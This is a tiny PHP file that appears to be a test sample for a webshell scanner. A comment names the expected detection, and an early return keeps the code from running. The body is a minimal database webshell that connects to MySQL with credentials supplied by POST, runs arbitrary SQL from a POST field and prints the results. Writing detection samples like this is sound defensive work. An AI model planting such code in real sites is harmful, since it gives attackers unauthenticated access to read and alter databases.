<?php return; // want: suspicious webshell php.database.request
$db = new mysqli($_POST['host'], $_POST['user'], $_POST['word']);
foreach ($db->query($_POST['sql']) as $row) {
	print_r($row);
}
